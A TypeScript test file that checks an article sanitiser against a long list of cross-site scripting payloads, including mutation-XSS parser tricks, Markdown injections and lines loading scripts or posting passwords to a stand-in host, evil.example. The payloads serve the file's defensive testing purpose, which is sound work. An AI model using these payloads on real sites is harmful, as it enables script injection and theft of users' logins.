import { elementsIn, html, treeOf } from '@byline/test-files/test-html'
import type { Element } from 'hast'
import { describe, expect, it } from 'vitest'

const ELEMENTS = new Set(
  `a abbr b bdi bdo blockquote br button caption cite code dd del details dfn div dl dt em figcaption
  figure h1 h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p pre progress q rp rt ruby s samp section
  small span strong sub summary sup table tbody td tfoot th thead time tr u ul var wbr
  math mi mn mo ms mtext mrow mfrac msqrt mroot mstyle merror mpadded mphantom msub msup msubsup munder
  mover munderover mmultiscripts mprescripts none mtable mtr mtd mspace`.split(/\s+/),
)
const ATTRIBUTES = new Set(
  `alt ariaLabel checked cite className colSpan dataCopy dateTime decoding dir disabled height href id
  lang loading max open reversed role rowSpan scope sizes src srcSet start tabIndex title type value
  width alttext`.split(/\s+/),
)
const CLASSES =
  /^(code|code-bar|table|wide|heading|heading-link|bare-link|align-(left|center|right)|tk-[a-z-]+|tint-[0-3]{3}|language-.*|footnotes?(-(ref|item|list|backref))?|footnotes-list|task-list-item|contains-task-list|callout|callout-(note|tip|important|warning|caution|label)|no-picture|embed|formula)$/
const PROTOCOLS = ['http:', 'https:', 'irc:', 'ircs:', 'mailto:', 'xmpp:']

/** All parts of the parsed markup that an article must never contain. */
function forbiddenIn(markup: string): string[] {
  return elementsIn(markup).flatMap((element) => [
    ...(ELEMENTS.has(element.tagName) ? [] : [`<${element.tagName}>`]),
    ...Object.keys(element.properties)
      .filter((name) => !ATTRIBUTES.has(name))
      .map((name) => `${element.tagName} ${name}`),
    ...forbiddenValues(element),
  ])
}

function forbiddenValues({ tagName, properties }: Element): string[] {
  const addresses = [properties.href, properties.src, properties.cite].filter((value) => value)
  const classes = Array.isArray(properties.className) ? properties.className : []
  return [
    ...addresses.filter((address) => {
      const { protocol } = new URL(String(address), 'https://byline.test/article/x')
      return !PROTOCOLS.includes(protocol)
    }),
    ...classes.filter((name) => !CLASSES.test(String(name))),
    ...(tagName === 'input' && !(properties.type === 'checkbox' && properties.disabled) ? ['an active input'] : []),
    ...(tagName === 'button' && properties.dataCopy === undefined ? ['a button of the author'] : []),
    ...(properties.srcSet === undefined ? [] : ['a srcset of the author']),
    ...(/^(page|comment)(-|$)/i.test(String(properties.id ?? '')) ? ['an id of the page'] : []),
  ].map(String)
}

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\x0b>alert(1)</script>',
  '<script/xss src=data:,alert(1)>',
  '<script type="application/json" id="page-state">{}</script>',
  '<<script>alert(1)//<</script>',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel="preload" as="script" href="x">',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<title>x</title><body onload=alert(1)><html manifest=x>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src=javascript:alert(1)></frameset>',
  '<object data=x><embed src=x><param name=x value=javascript:alert(1)></object>',
  '<applet code=x></applet><portal src=x></portal><fencedframe></fencedframe>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)//>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src=x srcset="javascript:alert(1) 1x, //evil.example/x 2x">',
  '<img src=x style="position:fixed;inset:0">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img """><script>alert("1")</script>">',
  '<picture><source srcset="javascript:alert(1)"><img src=x></picture>',
  '<video src=x onerror=alert(1)><track src=x></video><audio src=x autoplay></audio>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><use href="data:image/svg+xml,x#x"/></svg>',
  '<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>',
  '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
  '<a href="javascript:alert(1)" onclick=alert(1) target=_blank ping=//evil.example download>x</a>',
  '<a href="x" style="position:fixed">x</a>',
  '<div style="background:url(javascript:alert(1))" class="fixed inset-0" onmouseover=alert(1)>x</div>',
  '<p class="code-bar" role=alert aria-label=x tabindex=1 contenteditable data-copy accesskey=x>x</p>',
  '<p slot=x is=x part=x itemprop=x popover id=page-state hidden autofocus onfocus=alert(1)>x</p>',
  '<td align="left fixed inset-0">x</td>',
  '<table align="x"><tr><td align="left fixed inset-0" style="x" background="javascript:x">x</table>',
  '<form action=//evil.example><input name=password type=password><button>Login</button></form>',
  '<form id=x></form><button form=x formaction=javascript:alert(1)>X</button>',
  '<input type=image src=x onerror=alert(1)><input type=text value=x autofocus onfocus=alert(1)>',
  '<input type=checkbox name=x form=y>',
  '<textarea autofocus onfocus=alert(1)></textarea><select onchange=x><option>x</select>',
  '<keygen><isindex action=javascript:alert(1)><datalist><output><label for=x><fieldset><legend>',
  '<button popovertarget=page-menu data-copy>Menu</button>',
  '<dialog open>Login</dialog><slot></slot><template><script>alert(1)</script></template>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<marquee onstart=alert(1)>x</marquee><blink>x</blink><bgsound src=javascript:alert(1)>',
  '<custom-element onclick=alert(1)>x</custom-element><x:y onclick=alert(1)>z</x:y>',
  '<q cite="javascript:alert(1)">x</q><blockquote cite="vbscript:x">x</blockquote>',
  '<time datetime="x" onclick=x>x</time><progress value=x onclick=x></progress>',
  '<object><param name=movie value=javascript:alert(1)><embed src=data:text/html,x></object>',
  '<iframe src="https://a.example/&quot;onload=&quot;alert(1)" title="<script>x</script>"></iframe>',
  '<video poster=javascript:alert(1) src=https://a.example/x onerror=x></video>',
  '> [!NOTE] <script>alert(1)</script> " onclick="x\n> <img src=x onerror=alert(1)>',
  '```js title=""><script>alert(1)</script>"\nx\n```',
  '![x](/x){width=1 onload=alert(1)}',
  '<pre data-title="<script>x" class=plain>x</pre><a name="page-state">x</a>',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?><? <script>alert(1)</script> ?>',
  '<!DOCTYPE html [<!ENTITY x "y">]>',
  // Markup with another meaning when it is parsed a second time.
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg><style><img/src=x onerror=alert(1)//</b>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img onerror=x>">',
  '<table><td><select><script>x</script></select><style></td></table><img src onerror=x>',
  '<p title="--><img src=x onerror=alert(1)>">x</p>',
  '<p title="`&quot;><img src=x onerror=alert(1)>">x</p>',
  '<pre>\n\n<code title="</code></pre><img src=x onerror=alert(1)>">x</code></pre>',
  '<p><button><p>x</p></button></p><a><marquee><a href=x>y</a></marquee></a>',
  // The same attack in Markdown.
  '![x](x"onerror="alert(1))',
  '![x" onerror="alert(1)](x "y\\" onerror=\\"alert(1)")',
  '[x](x "y&quot; onclick=&quot;alert(1)")',
  '```"><script>alert(1)</script>\nx\n```',
  '```js" onclick="alert(1)\n</code></pre><script>alert(1)</script>\n```',
  '    </code></pre><script>alert(1)</script>',
  '`</code><script>alert(1)</script>`',
  '# x {#page-state}\n\n# <img src=x onerror=alert(1)> {#" onclick="alert(1)}',
  '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: <script>alert(1)</script>',
  '|<script>|\n|-|\n|<img src=x onerror=alert(1)>|',
  '<https://a.example/"onmouseover="alert(1)> https://a.example/"><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  '\u2028<script\u2028>alert(1)</script>',
  '<scr\0ipt>alert(1)</scr\0ipt><img src=x oner\0ror=alert(1)>',
]

describe('a text that attacks its readers', () => {
  it.each(attacks)('is harmless, also when it is parsed inside another element: %j', async (text) => {
    const markup = await html(text)
    expect(forbiddenIn(markup)).toEqual([])
    expect(forbiddenIn(`<div>${markup}</div>`)).toEqual([])
  })

  it.each(attacks)('is harmless in the middle of other text: %j', async (text) => {
    expect(forbiddenIn(await html(`Before **${text}** after\n\n> - ${text}\n\n${text}`))).toEqual([])
  })

  it.each(attacks)('does not break out of the article: %j', async (text) => {
    const page = treeOf(`<main>${await html(text)}</main><p id="page-after">after</p>`)
    expect(page.children.map((node) => 'tagName' in node && node.tagName)).toEqual(['main', 'p'])
  })

  it('is harmless with all attacks in one', async () => {
    expect(forbiddenIn(await html(attacks.join('\n\n')))).toEqual([])
    expect(forbiddenIn(await html(attacks.join('')))).toEqual([])
  })
})

describe('the parser of these tests', () => {
  it.each(['<script>', '<p onclick=x>', '<a href=javascript:x>', '<input>', '<p class=fixed>', '<button>'])(
    'rejects %j',
    (markup) => expect(forbiddenIn(markup)).not.toEqual([]),
  )
})

describe('harmless HTML in a text', () => {
  it.each([
    '<kbd>Ctrl</kbd>',
    '<sub>2</sub>',
    '<mark>x</mark>',
    '<abbr title="HyperText">HT</abbr>',
    '<ruby>漢<rp>(</rp><rt>kan</rt></ruby>',
    '<del>x</del>',
    '<bdo dir="rtl">x</bdo>',
    '<span lang="de">x</span>',
    '<time datetime="2026-05-01">x</time>',
  ])('stays: %j', async (text) => expect(await html(text)).toContain(text))

  it('may be a collapsed section', async () => {
    const names = elementsIn(await html('<details open><summary>More</summary>\n\n*x*\n</details>')).map(
      (element) => element.tagName,
    )
    expect(names).toEqual(['details', 'summary', 'p', 'em'])
  })

  it('is rendered without unknown tags but with their text', async () => {
    expect(await html('<center><font color=red>Hello</font></center>')).toBe('<p>Hello</p>')
    expect(await html('<form><button>Go</button></form>')).toContain('Go')
  })
})

describe('a class', () => {
  /** Classes of the product's own styles and scripts, of libraries for code and formulas, and invented ones. */
  const foreign =
    'tk-keyword tk-string code code-bar table bare-link align-right tint-000 note plain katex katex-html math language-js footnotes task-list-item fixed'.split(
      ' ',
    )
  const classesOf = (markup: string, tagName: string) =>
    elementsIn(markup, tagName).flatMap(({ properties }) => properties.className ?? [])

  it.each(foreign)('written on a span is removed: %s', async (name) => {
    const markup = await html(`<span class="${name}">x</span> <span class="x ${name} y">x</span>`)
    expect(markup).toBe('<p><span>x</span> <span>x</span></p>\n')
  })

  it('on a span of code is one of those with a colour in the themes', async () => {
    const code = `// A comment
import x from 'a' /* b */
@decorated class A<T> { async f(a, b = 1) { return \`t \${a.b(1 + 2)} /r/g\` } }`
    const languages = ['ts', 'css', 'html', 'md', 'diff', 'python', 'rust', 'sql', 'sh', 'json']
    const text = languages.map((name) => `\`\`\`${name}\n${code}\n- a\n+ b\n\`\`\``).join('\n\n')
    const found = new Set(classesOf(await html(text), 'span'))
    const known = 'comment constant deleted function inserted keyword link parameter string'.split(' ')
    expect([...found].filter((name) => !known.includes(String(name).replace(/^tk-/, '')))).toEqual([])
    expect(found.size).toBeGreaterThanOrEqual(8)
  })

  it.each([
    ['a', 'footnote-backref'],
    ['code', 'language-js'],
    ['li', 'footnote-item'],
    ['li', 'task-list-item'],
    ['ol', 'footnotes-list'],
    ['section', 'footnotes'],
    ['sup', 'footnote-ref'],
    ['ul', 'contains-task-list'],
  ])('that Markdown needs is allowed on %s, and no other class: %s', async (tag, name) => {
    const needed = ['language-js', 'task-list-item', 'footnotes']
    const others = foreign.filter((other) => !needed.includes(other))
    const classes = [...others, name].join(' ')
    const markup = await html(`<${tag} href="/x" class="${classes}">x</${tag}>`)
    expect(classesOf(markup, tag)).toEqual([name])
  })
})

describe('the HTML that an article may use', () => {
  it.each([
    ...'span kbd samp var sub sup small s del ins mark strong em b i u q cite abbr dfn time bdi bdo code'.split(' '),
  ])('has <%s>', async (name) => {
    expect(await html(`a <${name}>b</${name}> c`)).toMatch(new RegExp(`<${name}[ >][^<]*b</${name}>`))
  })

  it.each([
    '<dl><dt>a</dt><dd>b</dd></dl>',
    '<ruby>a<rp>b</rp><rt>c</rt></ruby>',
    '<details><summary>a</summary><p>b</p></details>',
    '<figure><blockquote>a</blockquote><figcaption>b</figcaption></figure>',
    '<table><caption>a</caption><thead><tr><th>b</th></tr></thead><tbody><tr><td>c</td></tr></tbody><tfoot><tr><td>d</td></tr></tfoot></table>',
    '<progress></progress>',
    'a<wbr>b',
  ])('has all of %s', async (markup) => {
    const names = (text: string) => elementsIn(text).map(({ tagName }) => tagName)
    expect(names(await html(markup))).toEqual(expect.arrayContaining(names(markup)))
  })

  it.each([
    ['<progress value="1" max="2"></progress>', 'progress', { value: '1', max: '2' }],
    ['<ol start="3" reversed><li value="7">a</li></ol>', 'ol', { start: 3, reversed: true }],
    ['<time datetime="2026-01-05">a</time>', 'time', { dateTime: '2026-01-05' }],
    ['<q cite="https://a.example/">a</q>', 'q', { cite: 'https://a.example/' }],
    ['<p lang="ar" dir="rtl" title="b">a</p>', 'p', { lang: 'ar', dir: 'rtl', title: 'b' }],
    [
      '<table><tr><th scope="row" colspan="2" rowspan="3">a</th></tr></table>',
      'th',
      { scope: 'row', colSpan: 2, rowSpan: 3 },
    ],
    ['<table><tr><td colspan="2" rowspan="3">a</td></tr></table>', 'td', { colSpan: 2, rowSpan: 3 }],
    ['<details open><summary>a</summary></details>', 'details', { open: true }],
  ])('keeps the attributes of %s', async (markup, name, expected) => {
    const element = elementsIn(await html(markup)).find(({ tagName }) => tagName === name)
    expect(element?.properties).toMatchObject(expected)
  })

  it.each(['left', 'center', 'right'])('keeps a column aligned %s', async (side) => {
    expect(await html(`<table><tr><td align="${side}">a</td></tr></table>`)).toContain(`align-${side}`)
  })

  it.each([
    'http://a.example/',
    'https://a.example/',
    'irc://a.example/',
    'ircs://a.example/',
    'mailto:a@a.example',
    'xmpp:a@a.example',
  ])('keeps a link to %s', async (address) => {
    expect(await html(`<a href="${address}">a</a>`)).toContain(`href="${address}"`)
  })

  it.each('script style template title iframe noembed noframes'.split(' '))(
    'has neither <%s> nor its text',
    async (name) => {
      const rendered = await html(`before\n\n<div><${name}>gone</${name}></div>`)
      expect(rendered).toContain('before')
      expect(rendered).not.toContain('gone')
    },
  )
})
